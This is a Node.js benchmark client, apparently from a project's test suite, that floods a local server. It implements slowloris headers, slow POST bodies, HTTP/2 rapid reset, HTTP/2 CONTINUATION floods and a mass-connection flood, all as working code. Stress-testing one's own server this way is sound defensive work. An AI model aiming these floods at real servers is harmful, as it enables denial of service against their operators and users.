// One hostile client of `./dev bench floods`: attacker.mjs NAME PORT TLS_PORT SECONDS. It comes from 127.0.0.66, opens
// anew whatever is closed on it, and prints at the end what it managed to do.
import net from 'node:net';
import tls from 'node:tls';

const [name, port, tlsPort, seconds] = [process.argv[2], ...process.argv.slice(3).map(Number)];
const from = { host: '127.0.0.1', localAddress: '127.0.0.66' };
const did = { opened: 0, open: 0, mostOpen: 0, closed: 0, frames: 0, answers: {} };
let over = false;

function connection(secure, onOpen, again = 20) {
  if (over) return;
  const socket = secure
    ? tls.connect({ ...from, port: tlsPort, rejectUnauthorized: false, ALPNProtocols: ['h2'], servername: 'bench.test' })
    : net.connect({ ...from, port });
  socket.once(secure ? 'secureConnect' : 'connect', () => {
    did.opened += 1;
    did.open += 1;
    did.mostOpen = Math.max(did.mostOpen, did.open);
    socket.wasOpen = true;
    onOpen(socket);
  });
  socket.on('data', (data) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1];
    if (status) did.answers[status] = (did.answers[status] ?? 0) + 1;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    if (socket.wasOpen) { did.open -= 1; did.closed += 1; }
    clearInterval(socket.timer);
    setTimeout(() => connection(secure, onOpen, again), again);
  });
}

// One byte a second, after a start that promises more.
const drip = (start, byte) => (socket) => {
  socket.write(start);
  socket.timer = setInterval(() => socket.write(byte), 1000);
};

const frame = (type, flags, stream, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const literal = (index, text) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)]);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
// :method GET, :scheme https, :path, :authority, without touching the dynamic table (RFC 7541 6.2.2).
const head = Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, '/xmpp-websocket?room=flood'), literal(0x01, 'bench.test')]);

// Writes what `next` gives for as long as the connection takes it; lets the loop run between two writes.
const pour = (next) => (socket) => {
  if (socket.alpnProtocol !== 'h2') { did.answers['no h2'] = (did.answers['no h2'] ?? 0) + 1; socket.destroy(); return; }
  socket.write(preface);
  const step = () => {
    if (socket.destroyed || over) return;
    if (socket.write(next(socket))) setImmediate(step);
    else socket.once('drain', step);
  };
  step();
};

const rapidReset = (socket) => {
  const frames = [];
  for (let i = 0; i < 100; i += 1) {
    socket.stream = (socket.stream ?? -1) + 2;
    frames.push(frame(1, 5, socket.stream, head), frame(3, 0, socket.stream, Buffer.from([0, 0, 0, 8])));
  }
  did.frames += frames.length;
  return Buffer.concat(frames);
};

const more = Buffer.concat(Array.from({ length: 130 }, () => Buffer.concat([literal(0x00, 'x-flood'), Buffer.from([100]), Buffer.alloc(100, 0x61)])));
const continuation = (socket) => {
  did.frames += 1;
  if (socket.begun) return frame(9, 0, 1, more);
  socket.begun = true;
  return frame(1, 1, 1, head);  // END_STREAM, but never END_HEADERS
};

const many = (count, secure, onOpen, again) => { for (let i = 0; i < count; i += 1) setTimeout(() => connection(secure, onOpen, again), i / 2); };

const floods = {
  'slow head': () => many(2000, false, drip('GET /xmpp-websocket?room=slow HTTP/1.1\r\nHost: bench.test\r\nX-Slow: ', 'a')),
  'slow body': () => many(2000, false, drip('POST /http-bind?room=slow HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 1000000\r\n\r\n', 'a')),
  'rapid reset': () => many(10, true, pour(rapidReset)),
  continuation: () => many(10, true, pour(continuation)),
  'connections of one address': () => many(8000, false, () => {}, 100),
};

floods[name]();
setTimeout(() => {
  over = true;
  process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit(0));
}, seconds * 1000);
